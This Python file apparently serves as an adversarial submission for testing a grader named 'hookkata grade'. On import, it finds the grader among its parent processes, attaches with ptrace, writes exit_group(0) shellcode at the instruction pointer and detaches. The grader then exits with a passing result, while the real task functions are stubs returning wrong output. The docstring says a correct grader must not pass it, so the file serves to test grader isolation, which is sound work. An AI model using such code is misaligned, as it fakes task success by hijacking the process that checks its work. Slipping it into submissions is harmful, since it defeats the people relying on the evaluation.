"""Same-user ptrace: attach to the `hookkata grade` process (found up the parent chain) and make it call exit_group(0): a silent green run.
A correct grader must not end with exit code 0 (it must run the answer where it cannot trace or signal the grader). Only targets a process whose argv has 'hookkata' and 'grade'."""
import ctypes
import os

_FIELDS = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs "
           "eflags rsp ss fs_base gs_base ds es fs gs").split()


class _Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in _FIELDS]


def _grader():
    pid = os.getppid()
    for _ in range(6):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            return None
        if any(b"hookkata" in a for a in argv) and b"grade" in argv:
            return pid
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        if pid <= 1:
            return None
    return None


def _exit_zero(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return False
    os.waitpid(pid, 0x40000000)  # __WALL
    regs = _Regs()
    libc.ptrace(12, pid, None, ctypes.byref(regs))  # GETREGS
    code = bytes.fromhex("b8e7000000" "31ff" "0f05") + b"\x90" * 7  # exit_group(0)
    for i in range(0, 16, 8):
        word = int.from_bytes(code[i:i + 8], "little")
        libc.ptrace(5, pid, ctypes.c_void_p(regs.rip + i), ctypes.c_void_p(word))  # POKEDATA
    regs.orig_rax = 0xFFFFFFFFFFFFFFFF  # no syscall restart
    libc.ptrace(13, pid, None, ctypes.byref(regs))  # SETREGS
    libc.ptrace(17, pid, None, None)  # DETACH
    return True


_pid = _grader()
if _pid:
    _exit_zero(_pid)


def audit_line(outcome):
    return "not json"


def summarize_session(outcomes, end):
    return {}
